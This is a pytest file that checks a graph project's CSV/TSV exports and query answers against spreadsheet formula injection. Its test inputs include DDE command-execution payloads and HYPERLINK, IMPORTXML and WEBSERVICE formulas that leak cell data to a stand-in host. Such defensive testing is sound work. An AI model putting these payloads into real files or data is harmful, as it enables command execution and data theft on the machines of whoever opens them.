"""CSV formula injection (RELIABILITY, row 22): no text of any table begins a formula for any spreadsheet."""

import csv
import io
import json
import re
from itertools import product

import pytest

from alliance_graph import stores
from alliance_graph.export.tables import write_edges, write_nodes
from alliance_graph.formulas import disarm
from alliance_graph.graph.answers import Answer
from alliance_graph.model import Company
from alliance_graph.network import to_network
from tests.graph.make import article, claim, open_store
from tests.growth import grows_no_faster_than_linear

FORMULAS = [
    *("=1+1", "+1", "-1 rumour", "@SUM(A1)", "＝1", "＋1", "－1", "＠SUM(A1)"),  # noqa: RUF001
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.org/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://e.org/?",A1),"//a")',
    '=WEBSERVICE("http://e.org/")',
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!D2",
    '="a"',
    "=1,2",
    "=1;2",
]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\xa0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u2028",
    ";",
    "; ",
    ";;",
    " ;\t",
]
BEFORE += [f"a{mark}" for mark in (";", "; ", "\t", "\n", "\r", "\n ", '";', '"\n', ",;")]
CASES = [before + formula for before, formula in product(BEFORE, FORMULAS)]  # 450
KEPT = ["Nissan", "a=1", "'=1", '"=1"', "A-B", "e@mail.org", "1-2", "a, =1", "a =1", "", " ", "a; b", "a\nb", "日産"]
SPACE = " \xa0\u200b\ufeff\u202e\u2028\x00\v\f"
NUMBER = re.compile(r"-?[0-9.]+(e[+-]?[0-9]+)?")


def cells(text):
    """Every cell, read with its own separator, with those of other countries, and as if quotes meant nothing."""
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from row
    yield from re.split("[\t\r\n]", text.replace('"', ""))


def begins_formula(cell):
    return bool(re.match("[=+@＝＋－＠-]", cell.lstrip(SPACE + "\t\r\n"))) and not NUMBER.fullmatch(cell)  # noqa: RUF001


def answer_of(*texts):
    rows = [{"x": {"type": "literal", "value": text}, "y": {"type": "literal", "value": text}} for text in texts]
    return Answer(
        is_graph=False, content=json.dumps({"head": {"vars": ["x", "y"]}, "results": {"bindings": rows}}).encode()
    )


def network_of(text):
    network = to_network([Company(iri="https://example.org/ag/company/a", name=text, aliases=("b", text))], [])
    network.add_edge("a", "a", key=text, label=text, sentence=text, **{text or "x": text})
    return network


def table_of(writer, network, **options):
    file = io.StringIO(newline="")
    writer(network, file, **options)
    return file.getvalue()


@pytest.mark.parametrize("writer", [write_nodes, write_edges])
def test_no_cell_of_an_exported_table_is_a_formula(writer):
    for text in CASES:
        found = [cell for cell in cells(table_of(writer, network_of(text))) if begins_formula(cell)]
        assert not found, (text, found)


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_no_cell_of_an_answer_is_a_formula(format):
    for text in CASES:
        written = answer_of(text).serialize(format).decode()
        assert not [cell for cell in cells(written) if begins_formula(cell)], text


def test_a_raw_table_reads_back_to_the_same_texts():
    for text in [*CASES, *KEPT]:
        network = network_of(text)
        (row,) = csv.DictReader(io.StringIO(table_of(write_nodes, network, is_raw=True), newline=""), strict=True)
        assert row["name"] == text.replace("\x00", "\ufffd")
    written = answer_of(*CASES, *KEPT).serialize("csv", raw=True).decode()
    assert [row[0] for row in csv.reader(io.StringIO(written, newline=""))][1:] == [*CASES, *KEPT]


@pytest.mark.parametrize("text", KEPT)
def test_a_text_that_is_no_formula_stays_as_it_is(text):
    assert disarm(text) == text


def test_an_apostrophe_is_all_that_is_added():
    for text in CASES:
        assert disarm(text).replace("'", "") == text.replace("'", ""), text


@pytest.mark.parametrize("attack", ["\n", " ", ";", "\t ", "=", ";=", "a;"])
def test_long_texts_take_linear_time(attack):
    assert grows_no_faster_than_linear(disarm, attack)


def test_names_come_through_build_and_every_table_without_a_formula(tmp_path):
    names = [f"{formula} {number}" for number, formula in enumerate(FORMULAS)]
    deals = [
        article(f"a{n}", claim("merger", "agreed", text=f"{name} so", partners=f"{name},Honda", purpose=name))
        for n, name in enumerate(name.replace(",", "") for name in names)
    ]
    with open_store(tmp_path, *deals) as store:
        stores.export(store, tmp_path / "ties", "csv")
        answer = stores.query(store, "SELECT ?name ?text { ?c skos:prefLabel ?name . ?p oa:exact ?text }")
        assert len(answer.rows) >= len(names) ** 2
        texts = [answer.serialize("csv").decode(), answer.serialize("tsv").decode()]
    texts += [path.read_text("utf-8") for path in (tmp_path / "ties").iterdir()]
    assert len(texts) == 4
    assert not [cell for text in texts for cell in cells(text) if begins_formula(cell)]
